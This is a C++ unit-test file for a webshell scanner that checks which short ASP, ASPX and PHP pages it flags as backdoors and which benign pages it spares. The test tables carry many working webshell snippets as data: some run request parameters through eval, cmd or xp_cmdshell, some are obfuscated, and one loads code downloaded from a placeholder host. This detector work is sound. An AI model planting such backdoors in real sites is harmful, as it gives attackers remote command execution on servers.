#include "engines/webshell/webshell_scan.h"

#include <gtest/gtest.h>

#include "common/char_set.h"
#include "engines/webshell/decoding/decoders.h"
#include "engines/webshell/decoding/inflate.h"
#include "engines/webshell/decoding/script_encoding.h"
#include "engines/webshell/page/flow.h"
#include "engines/webshell/php/flow.h"
#include "engines/webshell/php/tokens.h"
#include "tests/engines/text_generator.h"

namespace qiv {
namespace {

const CQivLibs& Libs() {
  static const CQivLibs libs(Language::kEnglish);
  return libs;
}

std::string Finding(std::string_view text) {
  WebshellResult result;
  std::string name;
  WithExactCopy(text, [&](std::string_view copy) {
    if (Libs().WebshellScan(copy, &result)) name = result.name;
  });
  return name;
}

struct Case {
  std::string_view text;
  std::string_view name;
};

TEST(WebshellScan, GivesDetailsInTheLocalCodePage) {
  const CQivLibs libs(Language::kChinese);
  const auto detail = [&](std::string_view text) {
    WebshellResult result;
    EXPECT_TRUE(libs.WebshellScan(text, &result)) << text;
    return CCharSet::LocalToUtf8(result.detail);
  };
  const std::string name = "include \"data:,后门\"; // ";
  EXPECT_EQ(detail("<?php " + name), "data:,后门");
  EXPECT_EQ(detail("<?php " + CCharSet::Utf8ToLocal(name)), "data:,后门");
  std::string many = "data:,x";
  for (int i = 0; i < 40; ++i) many += "后";
  // 64 bytes of the file, and no half character at their end, whatever the encoding.
  EXPECT_EQ(detail("<?php include '" + many + "';"), many.substr(0, 7 + 19 * 3));
  EXPECT_EQ(detail("<?php include '" + CCharSet::Utf8ToLocal(many) + "';"), many.substr(0, 7 + 28 * 3));
  EXPECT_EQ(detail("<?php $db->sqliteCreateFunction('f', 'system', 1);"), "函数：system");
  EXPECT_EQ(detail("<?php $f=chr(97).chr(115).chr(115).'ert'; $f($_POST['x']);"), "函数：CHR()");
}

TEST(WebshellScan, SparesTextsWithoutMarks) {
  for (const std::string_view text : {"eval($_POST[1]); // no marker, no signature", ""}) EXPECT_EQ(Finding(text), "");
}

TEST(WebshellScan, NamesWhatPagesDo) {
  const Case cases[] = {
      {"<%execute(session(\"a\"))\nsession(\"a\")=request(\"b\")\n%>", "ASP backdoor"},
      {"<%\nset w=createobject(\"wscript.shell\")\nc=request(\"c\")\nw.run c\n%>", "ASP backdoor"},
      {"<%With CreateObject(\"WScript.Shell\")\nc=Request(\"c\")\n.Exec(c)\nEnd With%>", "ASP backdoor"},
      {"<object runat=server id=w classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object><%=w.exec(\"cmd /c \""
       "&request(\"c\"))%>",
       "ASP backdoor"},
      {"<%x=request _\n(\"a\")\nexecute(x)&\"\"%>", "ASP backdoor"},
      {"<%Sub z(c)\nExecute c\nEnd Sub\nSet f=GetRef(\"z\")\nf request(\"c\")%>", "ASP backdoor"},
      {"<%For Each k In Request.Form\nExecute Request.Form(k)\nNext%>", "ASP backdoor"},
      {"<%execute(\"on error resume next:\"&request(\"a\"))%>", "ASP backdoor"},
      {"<%[execute] request(\"a\")%>", "ASP backdoor"},
      {"<%\xA3\xE5val request(\"a\")%>", "ASP backdoor"},
      {"<%@ Language=JScript %><%var e=eval;e(Request.Form(\"a\")+\"\");%>", "ASP backdoor"},
      {"<%@ Language=JScript %><%this[\"ev\"+\"al\"](String(Request(\"a\")))%>", "ASP variant backdoor"},
      {"<script language=vbscript runat=server>execute request(\"a\")</script>", "ASP backdoor"},
      {"<%ev\"&\"al(request(\"x\"))%>", "ASP variant backdoor"},
      {"<%\nExecute StrReverse(\")x(tseuqer lave\")\n%>", "ASP variant backdoor"},
      {"<%b(0)=\"ev\":b(1)=\"al\"\nexecute b(0)&b(1)&\"(request(chr(97)))\"%>", "ASP variant backdoor"},
      {"<%execute(Replace(unescape(\"ev%78al(rexquest(1))\"),\"x\",\"\"))%>", "ASP variant backdoor"},
      {"<%Function h(s):For i=1 To Len(s) Step 2:h=h&Chr(\"&H\"&Mid(s,i,2)):Next:End Function:Execute "
       "h(\"6576616C20726571756573742822612229\")%>",
       "ASP variant backdoor"},
      {"<%for each c in array(101,118,97,108,32,114,101,113,117,101,115,116):s=s&chr(c):next:execute s%>",
       "ASP variant backdoor"},
      {"<%x.open \"GET\",u,false:set x=createobject(\"microsoft.xmlhttp\"):execute x.responsetext%>",
       "ASP variant backdoor"},
      {"<%\nset w=createobject(\"wscr\"&\"ipt.shell\")\n%>", "ASP variant backdoor"},
      {"<%Set f=fso.CreateTextFile(request(\"p\"),True)\nf.Write request(\"c\")%>", "Suspected dangerous files"},
      {"<%c.open \"server=\"&request(\"s\")\nc.execute request(\"q\")%>", "Suspected dangerous files"},
      {"<%set f=fso.opentextfile(server.mappath(request.servervariables(\"script_name\")),8)\nf.writeline "
       "request(\"a\")%>",
       "Suspected dangerous files"},
      {"<%c.execute(\"exec master.dbo.xp_cmdshell '\"&request(\"c\")&\"'\")%>", "ASP backdoor"},
      {"<%@ codepage = 65000 %>+ADw-", "UTF-7 encoded script"},
      {"<%@ Page Language=\"C#\" %><% Process.Start(Request[\"c\"]); %>", "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\" %><script runat=server>void R(string c) { P.Start(\"cmd\", c); } void L() { "
       "R(Request.Form[\"c\"]); }</script>",
       "ASPX variant backdoor"},
      {"<script language='C#' runat=server>void Page_Load() { Process.Start(\"cmd\", Request[\"c\"]); }</script>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"VB\" %><script runat=server>Dim p As New Process()\np.StartInfo.Arguments=Request(\"c\")\n"
       "</script>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"Jscript\"%><%\\u0065val(Request.Item[\"a\"],\"unsafe\");%>", "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%@Process.@\\U00000053tart(@Request[\"c\"]);%>", ""},  // a directive
      {"<%@ Page Language=\"C#\"%><%System.@Process.\\U00000053tart(@Request[\"c\"]);%>", "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%Assembly.Load(new Rijndael().Decrypt(Request.BinaryRead(9)));%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%var d=Convert.FromBase64String(\"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB\");"
       "Assembly.Load(d);%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%t.GetMethod(\"Start\").Invoke(null,new object[]{\"cmd\",Request[\"c\"]});%>",
       "ASPX variant backdoor"},
      {"<%@ WebService Language=\"C#\" Class=\"S\" %>\nclass S { [WebMethod] public void R(string c) {\n"
       "Process.Start(c); } }",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%Assembly.Load(new WebClient().DownloadData(\"http://x/y\"));%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%new LosFormatter().Deserialize(Request[\"v\"]);%>", "ASPX variant backdoor"},
      {"<%@ Page Language=\"Jscript\"%><%var f=new Function(\"x\",Request.Form[\"z\"]);%>", "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%var d=new "
       "XmlDocument();d.LoadXml(Request[\"x\"]);t.Load(d,XsltSettings.TrustedXslt,r);%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><script runat=server>string D(string s){return s;}</script><%var "
       "o=a.CreateInstance(D(\"x.y.z\"));o.GetType().GetMethod(D(\"trats\")).Invoke(o,new object[]{Request[\"c\"]});%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%var p=new Process{StartInfo=new ProcessStartInfo{FileName=Request[\"f\"]}};%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><script runat=server>string D(string s){return s;}</script><%var "
       "w=Activator.CreateInstance(Type.GetTypeFromProgID(\"WScript.Shell\"));w.Exec(Request[\"c\"]);%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%var b=Request.BinaryRead(9);var d=new "
       "byte[9];d[i]=(byte)(b[i]^k[i]);Assembly.Load(d);%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><script runat=server>byte[] u=new byte[9];Stream o=new MemoryStream();</script><%var "
       "g=new GZipStream(new "
       "MemoryStream(Request.BinaryRead(9)),m);g.Read(u,0,9);o.Write(u,0,9);Assembly.Load(o.ToArray());%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%var s=new "
       "StringBuilder();s.Append(Request.UserAgent);Process.Start(\"cmd\",s.ToString());%>",
       "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%Page.Controls.Add(ParseControl(Request[\"m\"]));%>", "ASPX variant backdoor"},
      {"<%@ Page Language=\"C#\"%><%File.WriteAllBytes(Server.MapPath(Request[\"n\"]),new "
       "WebClient().DownloadData(Request[\"u\"]));%>",
       "Suspected dangerous files"},
      {"<%@ Page Language=\"C#\"%><%f.SaveAs(Request[\"d\"]+\"/\"+Path.GetFileName(f.FileName));%>",
       "Suspected dangerous files"},
      {"<%@ Page "
       "Language=\"C#\"%><%if(Request[\"k\"]!=null)Process.GetProcessById(int.Parse(Request[\"k\"])).Kill();foreach("
       "var p in Process.GetProcesses())x();%>",
       "Suspected dangerous files"},
      {"<%@ Page Language=\"C#\" %><script runat=server>string C { get { return Request[\"c\"]; } }\nTextBox t=new "
       "TextBox(); void L() { Process.Start(C); }</script>",
       "ASPX variant backdoor"},
      {"<%@ Page %><asp:ObjectDataSource TypeName=\"System.Diagnostics.Process, System\" SelectMethod=\"Start\"/>",
       "Suspected dangerous files"},
      {"<%@ Page Language=\"C#\" "
       "Inherits=\"System.Web.UI.Page\"%><%File.WriteAllText(Request[\"p\"],Request[\"c\"]);%>",
       "Suspected dangerous files"},
      {"<%@ Page Language=\"C#\"%><%File.WriteAllText(Request[\"p\"],Request[\"c\"]);%>", "Suspected dangerous files"},
      {"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void ProcessRequest(HttpContext x) {\n"
       "x.Response.BinaryWrite(File.ReadAllBytes(x.Request[\"f\"])); } }",
       "Suspected dangerous files"},
  };
  for (const Case& c : cases) EXPECT_EQ(Finding(c.text), c.name) << c.text;
}

TEST(WebshellScan, SparesOrdinaryPages) {
  const std::string_view cases[] = {
      "<%@ Page Language=\"C#\" %><asp:Label runat=\"server\" Text='<%# Eval(\"Name\") %>' />",
      "<% conn.execute(\"select * from t where id=\" & clng(request(\"id\"))) %>",
      "<%sql=\"select * from t where a='\"&request(\"a\")&\"'\":sql=replace(sql,\"x\",\"\"):set rs=execute(sql)%>",
      "<%for each i in request.form:execute i&\"=request(\"\"\"&i&\"\"\")\":next%>",
      "<%a=cdbl(request(\"a\")):response.write eval(a&request(\"op\")&cdbl(request(\"b\")))%>",
      "<%execute \"call \"&request(\"action\")&\"()\"%>",
      "<%set f=fso.opentextfile(server.mappath(request(\"t\")&\".asp\")):c=f.readall:execute mid(c,3,9)%>",
      "<%conn.execute(request(\"sql\"))%><!--#include file=\"check.asp\"-->",
      "<%set d=createobject(\"adodb.stream\"):d.write request.binaryread(request.totalbytes):d.savetofile path,2%>",
      "<%x=split(\"exec|cmd|xp_cmdshell|localgroup|wscript|shell|sp_oacreate|hacker\",\"|\"):if "
      "instr(request(\"a\"),x(0)) then response.write \"no\"%>",
      "<html>hacker, webshell, backdoor, hacked by, xp_cmdshell<%=rs(\"a\")%><%=request(\"b\")%></html>",
      "<%@ Language=JScript %><%var m=/a\"b/.exec(String(Request(\"q\")));var o=eval(\"(\"+x.responseText+\")\");%>",
      "<%o(0)=\"wscript.shell\":o(1)=\"shell.application\":set x=server.createobject(request(\"n\"))%>",
      "<%set fso=createobject(\"scripting.\"&\"filesystemobject\"):fso.createtextfile(server.mappath(\"a.txt\")).write "
      "request(\"a\")%>",
      "<script language=jscript runat=server>function p(s){return eval(\"(\"+s+\")\");}</script><%x=p(y)%>",
      "<%@ WebService Language=\"C#\" Class=\"S\" %>\nclass S { [WebMethod] public void W(string n, string t) {\n"
      "File.WriteAllText(Server.MapPath(\"~/d/\" + n), t); } }",
      "<%@ Page Language=\"C#\" %><%# Eval(\"a\") %><%=int.Parse(Request[\"a\"])%><%d.Load(Request[\"x\"]);"
      "new Thread(f).Start(Request[\"x\"]);%>",
      "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nclass H { void ProcessRequest(HttpContext c) {\n"
      "var x = new XmlSerializer(typeof(Order)); var o = (Order)x.Deserialize(c.Request.InputStream); } }",
      "<%@ Page Language=\"C#\" %><%using (var a = new RijndaelManaged()) { var d = a.CreateDecryptor(k, v);\n"
      "t.Text = e.GetString(d.TransformFinalBlock(Convert.FromBase64String(Request[\"c\"]), 0, 9)); }%>",
      "<%@ Page Language=\"C#\" %><%f.SaveAs(Server.MapPath(\"~/uploads/\") + f.FileName);\n"
      "foreach (var i in new DirectoryInfo(Server.MapPath(\"~/gallery\")).GetFiles()) l.Items.Add(i.Name);\n"
      "if (Request[\"d\"] != null) File.Delete(Path.Combine(Server.MapPath(\"~/gallery\"), Request[\"d\"]));%>",
      "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nclass U { void ProcessRequest(HttpContext c) {\n"
      "string p = Server.MapPath(c.Request[\"folder\"]) + \"\\\\\";\nc.Request.Files[0].SaveAs(p + f.FileName);\n"
      "GetType().GetMethod(c.Request[\"do\"]).Invoke(this, new object[] { c }); } }",
  };
  for (const std::string_view text : cases) EXPECT_EQ(Finding(text), "") << text;
}

TEST(WebshellScan, KeepsItsLimits) {
  std::string text = "<?php eval($_POST[1]);";
  text.resize(CQivLibs::kLongestText, ' ');
  EXPECT_EQ(Finding(text), "Backdoor");
  EXPECT_EQ(Finding(text + " "), "");
  std::string nested = "<?php ";
  for (int i = 0; i < 200000; ++i) nested += "$a=[$a];";  // as deep as the text is long
  EXPECT_EQ(Finding(nested + "eval($_POST[1]);"), "Backdoor");
  std::string rule = "eval for more than ten gzuncompress y base64_decode";
  rule.resize(10240, '.');
  EXPECT_EQ(Finding(rule), "Hidden backdoor");  // before the sequence rules
  EXPECT_EQ(Finding("eval ( gzuncompress"), "Hidden backdoor");
  EXPECT_EQ(Finding("gzuncompress base64_decode namespace"), "");
  rule += " namespace";
  rule.erase(60, 10);
  EXPECT_EQ(Finding(rule), "Eval execution");
  EXPECT_EQ(Finding(rule + "."), "");
  EXPECT_EQ(Finding("uasort array" + std::string(288, '.')), "uasort Backdoor");
  EXPECT_EQ(Finding("uasort array" + std::string(289, '.')), "");
  EXPECT_EQ(Finding("adodb.stream responseBody http:/ <!-- -->"), "Suspected dangerous files");
  EXPECT_EQ(Finding("adodb.stream responseBody http:/ <!--#include"), "");
  EXPECT_EQ(Finding("<% standard jet db @codepage=65000" + std::string(105472, ' ')), "");
  EXPECT_EQ(Finding("<%x<!--#include file=\"a\"--> \nx=request(\"a\")\nexecute x\n" + std::string(102400, ' ')), "");
}

TEST(WebshellScan, KnownGoodCodeClearsTheText) {
  const CQivLibs libs(Language::kChinese, "<trojan_rules>my!mark{*}0{*}Mine{*}0{*}0{*}4{*}0{#}</trojan_rules>",
                      "own mark{#}", "Known  Good{#}");
  WebshellResult result;
  std::string good = "<?php eval($_POST[1]); // known good";
  EXPECT_FALSE(libs.WebshellScan(&good, &result));
  EXPECT_TRUE(result.known_good);
  EXPECT_TRUE(good.empty());
  EXPECT_TRUE(libs.WebshellScan(std::string_view("OWN mark"), &result));
  EXPECT_TRUE(libs.WebshellScan(std::string_view("my.mark"), &result));
  EXPECT_EQ(result.name, "Mine");
}

TEST(WebshellScan, NeverReadsBehindItsText) {
  const Tokens tokens = {"<?php ",
                         "$a",
                         "=",
                         "$_POST[1]",
                         "(",
                         ")",
                         "{",
                         "}",
                         "[",
                         "]",
                         "eval",
                         "function f",
                         "\"$a[",
                         "${",
                         "'",
                         "<<<X\n",
                         "base64_decode",
                         ";",
                         ".",
                         "\\",
                         "?>",
                         "<%",
                         "%>",
                         "request",
                         "foreach",
                         " as ",
                         "=>",
                         "->",
                         "`",
                         "execute ",
                         "chr(",
                         "&",
                         "\n",
                         "with ",
                         "&h6",
                         "new object[]",
                         "\\u0065",
                         "@\"",
                         "/*",
                         "function g(",
                         "end function",
                         "\xA3\xE5",
                         "#@~^",
                         "^#~@",
                         "mid(",
                         "replace(",
                         "1"};
  ForRandomSequences(tokens, 30, 4000, [](std::string_view text) {
    WebshellResult result;
    Libs().WebshellScan(text, &result);
    FollowPhp(text, true);
    for (const PageKind kind : {PageKind::kAsp, PageKind::kAspx}) FollowPage(ServerCode(text), kind);
    DecodeEncodedScript(text);
  });
}

TEST(Inflate, DecodesStoredFixedAndDynamicAndBoundsTheRest) {
  EXPECT_EQ(Inflate(DecodeHex("4b4c4a4e494d4b442201"), DeflateWrap::kRaw, 100), "abcdefabcdefabcdef");
  EXPECT_EQ(Inflate(std::string_view("\x01\x03\x00\xfc\xff"
                                     "abc",
                                     8),
                    DeflateWrap::kRaw, 2),
            "ab");
  EXPECT_EQ(Inflate(DecodeHex("0dcbc90900310800c056f2f0a1550541414156f0e87ff31ea63d9015ad0fe27a3badf237a5860b7b3d721c8f"
                              "41016d408bda2779ac921139185c0b2067568cfa35ce3950e62312be7b69930cbac0a84441741fdd08fb01"),
                    DeflateWrap::kRaw, 1000),
            "sil(ae(hs ((uisi)ueantreh(u$u_iloti( h$r$)ul$sdehndo hroa((ala$ier$$ottudh)streaot "
            "$rhitddliuu_)uo)h$sr$h)rde$deuitd_llh");
  ForRandomSequences({"\x05", "\xff", "\xe4", "K", std::string(1, '\0'), "\x4b\x4c", "\xed\xc1"}, 40, 4000,
                     [](std::string_view data) { EXPECT_LE(Inflate(data, DeflateWrap::kRaw, 500).size(), 500U); });
}

}  // namespace
}  // namespace qiv
